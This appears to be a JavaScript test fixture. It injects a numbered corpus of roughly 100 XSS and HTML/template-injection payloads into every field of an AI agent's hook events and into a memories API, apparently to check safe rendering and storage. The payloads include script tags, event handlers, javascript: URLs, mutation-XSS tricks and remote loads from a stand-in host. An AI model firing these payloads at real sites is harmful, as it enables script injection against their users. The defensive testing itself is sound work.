// Text that wants to be more than text, and where agents can put it. Every string carries its number, so that whoever finds
// one on a page knows which it is; and everything it could do is visible: a dialog, a request, an element, a title.

/** Nobody lives there: a request to it is a request that must not be made. */
export const ELSEWHERE = "elsewhere.invalid";

const SOURCES = [
  // Scripts
  `<script>alert(N)</script>`,
  `<SCRIPT SRC=//${ELSEWHERE}/N.js></SCRIPT>`,
  `<script type=module>import "//${ELSEWHERE}/N.js"</script>`,
  `"><script>document.title="owned N"</script>`,
  `</title><script>alert(N)</script>`,
  `</textarea><script>alert(N)</script>`,
  `</script><script>alert(N)</script>`,
  `<scr<script>ipt>alert(N)</scr</script>ipt>`,
  `<script\u2028>alert(N)</script\u2029>`,
  `<script/x>alert(N)</script>`,
  `<svg><script>alert(N)</script></svg>`,
  `<script>/*N`,
  // Handlers
  `<img src=x onerror=alert(N)>`,
  `<img src=x onerror="document.body.dataset.owned='N'">`,
  `<body onload=alert(N)>`,
  `<input autofocus onfocus=alert(N)>`,
  `<select autofocus onfocus=alert(N)>`,
  `<details open ontoggle=alert(N)>`,
  `<video><source onerror=alert(N)></video>`,
  `<audio src=x onerror=alert(N)>`,
  `<marquee onstart=alert(N)>`,
  `<div onpointerrawupdate=alert(N) style=position:fixed;inset:0>N</div>`,
  `" onmouseover="alert(N)" x="`,
  `' onclick='alert(N)' x='`,
  "` onfocus=alert(N) autofocus x=`",
  `<a href=x onclick=alert(N)>N</a>`,
  `<form onsubmit=alert(N)><button autofocus>N</button></form>`,
  `<dialog open onclose=alert(N)>N</dialog>`,
  `<xss-element N onanimationstart=alert(N) style=animation-name:x>`,
  // Addresses
  `javascript:alert(N)`,
  `JaVaScRiPt:alert(N)//`,
  `java\tscript:alert(N)`,
  ` javascript:alert(N)`,
  `[click N](javascript:alert(N))`,
  `![N](https://${ELSEWHERE}/N.png)`,
  `<a href="javascript:alert(N)">N</a>`,
  `<a href="data:text/html,<script>alert(N)</script>">N</a>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==#N`,
  `<iframe src="javascript:alert(N)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(N)</script>"></object>`,
  `<embed src="//${ELSEWHERE}/N">`,
  `<base href="//${ELSEWHERE}/N/">`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/N">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/N.css">`,
  `<img src="//${ELSEWHERE}/N.png">`,
  `<img srcset="//${ELSEWHERE}/N.png 1x" loading=eager>`,
  `https://user@${ELSEWHERE}/N?\u202egpj.exe`,
  `//${ELSEWHERE}/N`,
  // Drawings, formulas, templates
  `<svg onload=alert(N)>`,
  `<svg><animate onbegin=alert(N) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(N)'/>#x"></svg>`,
  `<svg><foreignObject><body onload=alert(N)></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(N)>`,
  `<math href="javascript:alert(N)">N</math>`,
  `{{constructor.constructor('alert(N)')()}}`,
  "${alert(N)} #{alert(N)} <%= alert(N) %> {alert(N)}",
  `{"__html":"<img src=x onerror=alert(N)>"}`,
  `{"type":"img","props":{"src":"x","onerror":"alert(N)"},"constructor":null,"__k":null}`,
  `__proto__[innerHTML]=<img src=x onerror=alert(N)>`,
  // Read twice, each time otherwise
  `<noscript><p title="</noscript><img src=x onerror=alert(N)>">`,
  `<style><!--</style><img src=x onerror=alert(N)>-->`,
  `<p id="</p><img src=x onerror=alert(N)>">N`,
  `<!--><img src=x onerror=alert(N)>-->`,
  `<![CDATA[<img src=x onerror=alert(N)>]]>`,
  `&lt;img src=x onerror=alert(N)&gt;`,
  `&#60;script&#62;alert(N)&#60;/script&#62;`,
  `%3Cscript%3Ealert(N)%3C/script%3E`,
  `\\u003cscript\\u003ealert(N)\\u003c/script\\u003e`,
  `+ADw-script+AD4-alert(N)+ADw-/script+AD4-`,
  `\uff1cscript\uff1ealert(N)\uff1c/script\uff1e`,
  `<template><img src=x onerror=alert(N)></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=alert(N)></template></div>`,
  // Unfinished
  `<img src="N`,
  `<a href='N`,
  `<!-- N`,
  `<textarea>N`,
  `<plaintext>N`,
  `</div></div></div></main></body></html>N`,
  // Styles
  `<style>*{display:none}/*N*/</style>`,
  `<style>@import "//${ELSEWHERE}/N.css";</style>`,
  `<div style="background:url(//${ELSEWHERE}/N)">N</div>`,
  `<p style="position:fixed;inset:0;background:red">N</p>`,
  `x{background:url(javascript:alert(N))}`,
  // Letters
  `\u202eN \u2066reversed\u2069 <script>alert(N)</script>`,
  `\u0000<script>alert(N)</script>\u0000`,
  `N\u2028alert(N)\u2029alert(N)`,
  `\u001b[31mN\u001b[0m \u0007\b<img src=x onerror=alert(N)>`,
  `\ufeff<img src=x onerror=alert(N)>\ufffe`,
  `N${"\u0301".repeat(200)}<b>`,
  `${"A".repeat(3000)}N<img src=x onerror=alert(N)>`,
  `\u{1f469}\u200d\u{1f469}\u200d\u{1f467}<img src=x onerror=alert(N)>`,
];

/** Each with a mark of its own: `hostile-12`. */
export const CORPUS = SOURCES.map((source, number) => `hostile-${number} ${source.replace(/\bN\b/g, String(number))}`);

/** The corpus, in every field that a hook can fill. The session's id is plain: it is a word of the agent's, not of a person. */
export function* envelopes(house) {
  for (const [number, text] of CORPUS.entries()) {
    const base = {
      session_id: `hostile-session-${String(number).padStart(3, "0")}`,
      transcript_path: "/nowhere.jsonl",
      cwd: `${house.project}/${text.replaceAll("/", "∕").replaceAll("\u0000", "").slice(0, 120)}`,
      prompt_id: text,
      model: text,
    };
    const call = { ...base, tool_use_id: `toolu_${number}`, agent_id: number % 3 ? undefined : `sub-${number}`, agent_type: text };
    yield [
      { ...base, hook_event_name: "SessionStart", source: number % 2 ? "startup" : text, session_title: text, git_branch: text },
      { ...base, hook_event_name: "UserPromptSubmit", prompt: text },
      { ...call, hook_event_name: "PreToolUse", tool_name: "Edit", tool_input: { file_path: `${house.project}/${text}`, old_string: text, new_string: text } },
      { ...call, hook_event_name: "PostToolUse", tool_name: "Edit", tool_input: { file_path: `${house.project}/${text}`, old_string: text, new_string: text }, tool_response: { filePath: text, userModified: false } },
      { ...call, hook_event_name: "PostToolUse", tool_name: "Bash", tool_input: { command: text, description: text }, tool_response: { stdout: text, stderr: text } },
      { ...call, hook_event_name: "PostToolUseFailure", tool_name: number % 2 ? "Bash" : text, tool_input: { command: text }, error: text },
      { ...base, hook_event_name: "SubagentStart", agent_id: `sub-${number}`, agent_type: text },
      { ...base, hook_event_name: "SubagentStop", agent_id: `sub-${number}`, agent_type: text, last_assistant_message: text },
      { ...base, hook_event_name: "Notification", message: text, notification_type: text },
      { ...base, hook_event_name: "Stop", stop_hook_active: false, last_assistant_message: text },
      ...(number % 2 ? [{ ...base, hook_event_name: "SessionEnd", reason: text }] : []),
    ];
  }
}

/** Everything of the corpus that agents can send, and memories of it, kept by a person. */
export async function store(house) {
  const sessions = [...envelopes(house)];
  const lanes = Array.from({ length: 4 }, async () => {
    for (let calls = sessions.shift(); calls; calls = sessions.shift()) for (const call of calls) await house.hook(call);
  });
  await Promise.all(lanes);
  for (const [number, text] of CORPUS.entries()) {
    await house.ask("POST", "/api/v1/memories", { text, title: text.slice(0, 200), files: [`src/${text.slice(0, 80)}`], critical: number % 20 === 0 });
  }
}
